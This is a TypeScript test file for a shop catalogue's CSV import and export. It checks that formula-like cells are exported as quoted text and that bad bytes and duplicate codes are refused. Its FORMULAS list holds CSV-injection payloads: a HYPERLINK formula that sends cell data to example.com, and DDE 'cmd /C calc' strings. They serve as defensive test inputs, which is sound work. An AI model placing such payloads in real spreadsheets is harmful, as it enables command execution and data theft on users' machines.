import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvLine } from '../../csvText';
import { staffSuite, type Db, type Visitor } from '../../testing';
import { NUL_REASON, tooLongReason, UNREADABLE_REASON } from '../rows/storable';
import { batchRecords } from './phases';
import { HAS_REJECTIONS_MESSAGE } from './service';
import { checkedJob, EXCHANGE, JOBS, rosesDemo, settled, type Job } from './testUpload';

/**
 * issue 22 point 4: cells a spreadsheet would run as formulas go out as text and come back as
 * they were; cells no write could store (NUL, undecodable bytes, too long, a key another product
 * holds) are refused by the dry run, so a file it passed is written whole.
 */
let db: Db;
let app: FastifyInstance;
let admin: Visitor;
const suite = staffSuite();

const ROSES = 'almaznaya-vyshivka-tsvety-rozy';
const demo = { section: 0, ves: 0, razmer: '', brend: '', products: [] as Product[] };
interface Product {
  id: number;
  code: string;
}

/** The probe's cells: each is a formula to a spreadsheet. */
const FORMULAS = [
  '=HYPERLINK("http://example.com/?d="&A1;"Подробнее")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

beforeAll(async () => {
  ({ db, app, admin } = suite);
  const [section] = await db.query<{ id: number }>('SELECT id FROM sections WHERE code = $1', [
    ROSES,
  ]);
  demo.section = section!.id;
  demo.products = await db.query<Product>(
    `SELECT id, code FROM products WHERE section_id = $1 AND kind = 'regular' ORDER BY id LIMIT 12`,
    [demo.section],
  );
  expect(demo.products).toHaveLength(12);
  const { razmer, brend } = await rosesDemo(db);
  Object.assign(demo, { razmer, brend });
  const [ves] = await db.query<{ id: number }>("SELECT id FROM properties WHERE code = 'ves'");
  demo.ves = ves!.id;
});

const rejectionsOf = async (job: Job) =>
  (await admin.get(`${JOBS}/${job.id}/rejections`)).json<{
    items: { line: number; column: string | null; reason: string }[];
  }>().items;

const nameOf = async (id: number) =>
  (await db.query<{ name: string }>('SELECT name FROM products WHERE id = $1', [id]))[0]?.name;

const productCount = async () =>
  (await db.query<{ n: number }>('SELECT count(*)::int AS n FROM products'))[0]!.n;

async function applied(job: Job, mode: 'valid' | 'all' = 'valid'): Promise<Job> {
  const response = await admin.post(`${JOBS}/${job.id}/apply`, { mode });
  expect(response.statusCode, response.body).toBe(200);
  return settled(admin, job.id);
}

/** A UTF-8 file with a BOM from raw lines, so a test can put any bytes in a cell. */
const fileOf = (lines: readonly (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('\uFEFF'),
    ...lines.flatMap((line) => [Buffer.from(line), Buffer.from('\r\n')]),
  ]);

/** What a spreadsheet would start a formula with, read off a parsed cell. */
const FORMULA_LEAD = /^[=+\-@\t\r]/;

describe('issue 22 point 4: formula cells are written as text and read back as they were', () => {
  it('issue 22 point 4: the export writes formula names as quoted text with one apostrophe; numbers, a negative one too, stay numbers; re-imported, nothing changes', async () => {
    const [first] = demo.products;
    for (const [i, name] of FORMULAS.entries())
      await db.query('UPDATE products SET name = $2 WHERE id = $1', [demo.products[i]!.id, name]);
    await db.query(
      `UPDATE products SET attributes = attributes || '{"ves": -5}'::jsonb WHERE id = $1`,
      [first!.id],
    );
    const fields = {
      SECTION_ID: [demo.section],
      parameters: ['ID', 'CODE', 'NAME'],
      properties: [demo.ves],
      catalog: ['PRICE_BASE', 'STOCK'],
    };
    const exported = await admin.post(EXCHANGE, { action: 'export', ...fields });
    expect(exported.statusCode).toBe(200);
    const lines = exported.rawPayload.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe('ID;CODE;NAME;PROPERTY_VES;PRICE_BASE;STOCK');
    for (const [i, name] of FORMULAS.entries()) {
      const line = lines.find((l) => l.startsWith(`${demo.products[i]!.id};`));
      expect(line).toContain(`;"'${name.replace(/"/g, '""')}";`);
    }
    const firstLine = lines.find((l) => l.startsWith(`${first!.id};`))!;
    expect(firstLine).toMatch(/;-5;\d+(\.\d+)?;\d+$/);
    const cells = Papa.parse<string[]>(lines.join('\r\n'), { delimiter: ';' }).data.flat();
    expect(cells.filter((cell) => FORMULA_LEAD.test(cell))).toEqual(['-5']);

    const template = await admin.post(EXCHANGE, { action: 'exportTemplate', ...fields });
    expect(template.body).toBe(`\uFEFF${lines[0]}\r\n`);

    const job = await checkedJob(app, admin, exported.rawPayload);
    expect(job).toMatchObject({ status: 'checked', toUpdate: 0, toCreate: 0, rejected: 0 });
    expect(job.unchanged).toBe(lines.filter(Boolean).length - 1);
  });

  it('issue 22 point 4: the rejection report writes formula cells as text; fixed and uploaded again, the names are written as the original text', async () => {
    const products = demo.products.slice(4, 8);
    const job = await checkedJob(
      app,
      admin,
      fileOf([
        'CODE;NAME;PRICE_BASE',
        ...products.map((p, i) => csvLine([p.code, FORMULAS[i]!, 'дорого'], ';').trimEnd()),
      ]),
    );
    expect(job).toMatchObject({ status: 'checked', rejected: 4, toUpdate: 0 });
    const report = await admin.get(`${JOBS}/${job.id}/report`);
    const lines = report.body.split('\r\n');
    for (const [i, name] of FORMULAS.entries())
      expect(lines[i + 1]).toMatch(
        new RegExp(`^${products[i]!.code};"'${escapeRegExp(name.replace(/"/g, '""'))}";дорого;`),
      );
    const cells = Papa.parse<string[]>(report.body.slice(1), { delimiter: ';' }).data.flat();
    expect(cells.filter((cell) => FORMULA_LEAD.test(cell))).toEqual([]);

    const fixed = await checkedJob(
      app,
      admin,
      Buffer.from(report.body.replace(/;дорого;/g, ';1500;'), 'utf8'),
    );
    expect(fixed).toMatchObject({ toUpdate: 4, rejected: 0 });
    expect(await applied(fixed)).toMatchObject({ status: 'done', rowsApplied: 4 });
    for (const [i, product] of products.entries())
      expect(await nameOf(product.id)).toBe(FORMULAS[i]);
  });
});

describe('issue 22 point 4: the dry run refuses what the write could not store', () => {
  it('issue 22 point 4: a NUL, bytes that are no UTF-8 and a name over 255 characters are refused by line and column with a Russian reason; nothing of them is written', async () => {
    const [good, nul, broken, long] = demo.products.slice(8);
    const names = await Promise.all([good, nul, broken, long].map((p) => nameOf(p!.id)));
    const count = await productCount();
    const job = await checkedJob(
      app,
      admin,
      fileOf([
        'CODE;NAME;PRICE_BASE',
        `${good!.code};Годная картина;1111`,
        `${nul!.code};Нуль\0в названии;1111`,
        Buffer.concat([
          Buffer.from(`${broken!.code};Картина `),
          Buffer.from([0xcf, 0xee, 0xeb, 0xe5]), // «Поле» in windows-1251: no UTF-8
          Buffer.from(';1111'),
        ]),
        `${long!.code};${'Я'.repeat(256)};1111`,
      ]),
    );
    expect(job).toMatchObject({
      status: 'checked',
      encoding: 'utf-8',
      rowsRead: 4,
      toUpdate: 1,
      rejected: 3,
    });
    expect(await rejectionsOf(job)).toEqual([
      { line: 3, column: 'NAME', reason: NUL_REASON },
      { line: 4, column: 'NAME', reason: UNREADABLE_REASON },
      { line: 5, column: 'NAME', reason: tooLongReason(255, 256) },
    ]);
    expect(NUL_REASON + UNREADABLE_REASON).toMatch(/^[^a-z]*[А-Яа-я]/);
    expect(tooLongReason(255, 256)).toBe('Ячейка длиннее 255 знаков (в ней 256)');

    const all = await admin.post(`${JOBS}/${job.id}/apply`, { mode: 'all' });
    expect(all.statusCode).toBe(409);
    expect(all.json<{ error: { message: string } }>().error.message).toBe(HAS_REJECTIONS_MESSAGE);
    expect(await Promise.all([good, nul, broken, long].map((p) => nameOf(p!.id)))).toEqual(names);

    expect(await applied(job)).toMatchObject({ status: 'done', rowsApplied: 1, error: null });
    expect(await nameOf(good!.id)).toBe('Годная картина');
    expect(await Promise.all([nul, broken, long].map((p) => nameOf(p!.id)))).toEqual(
      names.slice(1),
    );
    expect(await productCount()).toBe(count);
    // The report keeps the refused rows, the NUL shown as U+FFFD (the database holds no NUL).
    const report = (await admin.get(`${JOBS}/${job.id}/report`)).body;
    expect(report).toContain(`${nul!.code};Нуль\uFFFDв названии;1111;`);
  });

  it('issue 22 point 4: a 2 500-row file with a NUL in row 2 200 is refused there by the dry run and then written whole, every other row', async () => {
    const rows = 2500;
    expect(rows).toBeGreaterThan(batchRecords(db.engine));
    const code = (i: number) => `nul-probe-${String(i).padStart(4, '0')}`;
    const count = await productCount();
    const job = await checkedJob(
      app,
      admin,
      fileOf([
        'CODE;NAME;SECTION_ID;PROPERTY_RAZMER;PROPERTY_BREND;PRICE_BASE',
        ...Array.from(
          { length: rows },
          (_, i) =>
            `${code(i)};Картина ${i === 2199 ? '\0' : ''}№${i};${demo.section};${demo.razmer};${demo.brend};${1000 + i}`,
        ),
      ]),
    );
    expect(job).toMatchObject({ rowsRead: rows, toCreate: rows - 1, rejected: 1 });
    expect(await rejectionsOf(job)).toEqual([{ line: 2201, column: 'NAME', reason: NUL_REASON }]);
    expect(await applied(job)).toMatchObject({
      status: 'done',
      rowsApplied: rows - 1,
      rejected: 1,
      error: null,
    });
    expect(await productCount()).toBe(count + rows - 1);
    const [written] = await db.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM products WHERE code LIKE 'nul-probe-%'",
    );
    expect(written!.n).toBe(rows - 1);
  });

  it('issue 22 point 4: a code or an external id another product holds is refused by the dry run, not left to fail the write', async () => {
    const [product, other] = demo.products.slice(0, 2);
    await db.query("UPDATE products SET xml_id = 'held-xml-id' WHERE id = $1", [other!.id]);
    const job = await checkedJob(
      app,
      admin,
      fileOf([
        'ID;CODE;XML_ID',
        `${product!.id};${other!.code};`,
        `${demo.products[2]!.id};;held-xml-id`,
      ]),
    );
    expect(job).toMatchObject({ rejected: 2, toUpdate: 0 });
    const otherName = await nameOf(other!.id);
    expect(await rejectionsOf(job)).toEqual([
      {
        line: 2,
        column: 'CODE',
        reason: `Символьный код «${other!.code}» уже у товара «${otherName}»`,
      },
      {
        line: 3,
        column: 'XML_ID',
        reason: `Внешний код «held-xml-id» уже у товара «${otherName}»`,
      },
    ]);
  });
});

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
